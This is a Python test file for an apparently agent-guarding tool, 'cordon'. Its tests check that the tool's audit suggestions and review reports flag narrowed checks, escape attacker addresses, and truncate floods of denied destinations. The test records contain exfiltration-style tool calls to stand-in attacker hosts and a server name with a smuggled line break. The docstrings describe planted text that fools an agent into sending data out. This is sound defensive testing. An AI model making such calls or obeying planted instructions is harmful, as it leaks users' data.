"""What the operator reads from ``cordon suggest`` and the Markdown review pack, where a fooled
agent or a hostile server wrote the names and addresses: a proposal that narrows a check says
so, and an address in the pack is text, not a link GitHub or GitLab makes live."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

from cordon.audit.log import AuditLog
from cordon.audit.report import build_report, render_html, render_markdown
from cordon.audit.report._markdown import _text
from cordon.audit.suggest import read_usage, render
from tests.conftest import run_cordon


def _rec(tool: str, args: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"kind": "verdict", "session": "s1", "server": "srv", "tool": tool,
            "arguments": args, "verdict": "allow", "rule": "default.allow", **extra}  # fmt: skip


def test_sink_params_from_a_decoy_names_the_denied_url_argument() -> None:
    denied = _rec(
        "http_get",
        {"path": "https://attacker.example/c?d=1", "account": "ops@corp.example"},
        verdict="deny",
        rule="taint.seen_in_output",
        param="path",
    )
    text = render(read_usage([denied], []))
    assert "sink_params: [account]" in text, text
    (line,) = [x for x in text.splitlines() if "'path' is left out of sink_params" in x]
    assert "gave a URL or host" in line and "1 denied or asked about" in line, line


def test_sink_params_covering_every_address_adds_no_note() -> None:
    text = render(read_usage([_rec("send_email", {"to": "a@b.example", "body": "hi"})], []))
    assert "sink_params: [to]" in text and "left out of sink_params" not in text, text


def test_autolink_starts_are_escaped_in_a_markdown_cell() -> None:
    for raw in ("www.attacker.example", "https://attacker.example/x", "(WWW.a.example", "_www.b.c"):
        cell = _text(raw)
        assert not re.search(r"(?i)(?<!\\)www\.|(?<!\\)://", cell), cell
        assert cell.replace("\\", "") == raw  # reads the same once rendered


def test_suggest_error_lists_server_names_escaped(tmp_path: Path) -> None:
    """A server name (a client config's key, passed as ``--name``) with a line break must not
    print a line of its own in ``cordon suggest``'s error."""
    log = AuditLog(tmp_path / "a.jsonl")
    log.write(_rec("get", {}) | {"server": "srv\ncordon suggest: ok, nothing to do"})
    log.close()
    r = run_cordon(tmp_path, "suggest", "--audit", str(tmp_path / "a.jsonl"), "--server", "x")
    assert r.returncode == 2, r.stderr
    assert len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "srv\\ncordon suggest" in r.stderr, r.stderr


def test_exfiltrating_false_says_it_rests_on_the_servers_own_hint(tmp_path: Path) -> None:
    """``exfiltrating: false`` turns the sink checks off (a URL given later is no longer
    judged for taint), and its only evidence is ``readOnlyHint``, which the server writes
    about itself (MCP: annotations are untrusted unless the server is). The proposal must
    say both next to the line."""
    pins = tmp_path / "pins.json"
    definition = {"name": "lookup", "inputSchema": {"type": "object"},
                  "annotations": {"readOnlyHint": True}}  # fmt: skip
    pins.write_text(json.dumps({"servers": {"srv": {"tools": {"lookup": definition}}}}), "utf-8")
    text = render(read_usage([_rec("lookup", {"q": "weather"})], [pins]))
    entry = text.split("lookup:", 1)[1]
    assert "exfiltrating: false" in entry, text
    comments = " ".join(x for x in entry.splitlines() if x.strip().startswith("#"))
    assert "the server's own" in comments and "URL" in comments and "off" in comments, text


def test_an_email_destination_is_a_code_span_not_a_mailto_link(tmp_path: Path) -> None:
    """GitHub and GitLab link an e-mail address in text (``mailto:``) whatever its backslash
    escapes; in a code span it is text. A destination the fooled agent wrote is shown so."""
    log = AuditLog(tmp_path / "a.jsonl")
    rec = _rec("send_email", {"to": "x@attacker.example"}, verdict="deny",
               rule="taint.seen_in_output", destination="x@attacker.example")  # fmt: skip
    log.write(rec)
    log.close()
    md = render_markdown(build_report(audit=tmp_path / "a.jsonl"))
    (row,) = [line for line in md.splitlines() if "attacker" in line]
    assert "`x@attacker.example`" in row, row


def test_a_flood_of_denied_destinations_is_cut_and_said(tmp_path: Path) -> None:
    """Planted text can make the agent try thousands of distinct addresses: every one a row,
    the pack's findings and the rest of its summary would sit below thousands of lines. The
    most denied are listed, and how many more there are is said, with where to see them."""
    log = AuditLog(tmp_path / "a.jsonl")
    for i in range(600):
        dest = f"x{i}.attacker.example"
        log.write(_rec("fetch", {"url": f"https://{dest}/"}, verdict="deny",
                       rule="taint.seen_in_output", destination=dest))  # fmt: skip
    log.close()
    data = build_report(audit=tmp_path / "a.jsonl")
    md = render_markdown(data)
    assert sum("attacker" in line for line in md.splitlines()) <= 100, md.count("attacker")
    assert "500 more destination(s)" in md, md[-2000:]
    html = render_html(data)
    assert html.count("attacker") <= 100 and "500 more destination(s)" in html
